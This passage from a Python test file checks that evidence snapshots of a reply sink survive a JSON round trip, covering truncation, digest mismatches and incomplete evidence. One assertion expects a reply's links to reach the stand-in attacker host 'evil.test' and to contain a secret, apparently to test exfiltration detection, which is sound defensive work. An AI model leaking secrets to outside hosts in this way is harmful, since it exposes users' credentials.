        assert same(live, back, lambda o: d(o).of_type(ReplyNotCaptured))
        assert "captured no reply" in same(live, back, lambda o: d(o).text)
    elif cut:
        assert "cut at" in same(live, back, lambda o: d(o).links())
        assert same(live, back, lambda o: d(o).find_secret(SECRET))
    else:
        assert same(live, back, lambda o: d(o).hosts()) == ["accounts.corp.test", "evil.test"]


def test_reply_bytes_must_match_their_digest():
    sink = ReplySink("reply")
    sink.publish("short reply")
    snap = sink.snapshot()
    raw = snap.to_json()
    raw["state"]["sha256"] = "0" * 64  # type: ignore[index]
    with pytest.raises(EvidenceFormatError, match=r"sink 'reply' \(kind 'reply'\).*sha256"):
        snapshot_from_json(raw)
    assert rebuilt_snapshot(snap).state.reply == b"short reply"


def test_incomplete_evidence_stays_incomplete_after_a_round_trip():
    """A question the live evidence cannot answer is not answered by the rebuilt one either."""

    def act(view, sb):
        sb.provisioned["reply"].sink.publish("partial", cut=10_000)

    live = observe([reply_spec("reply")], act)
    back = rebuild(live)
    for o in (live, back):
        with pytest.raises(IncompleteEvidenceError, match="cut at 7 of the 10000"):
            o.diff.reply().contains("absent")
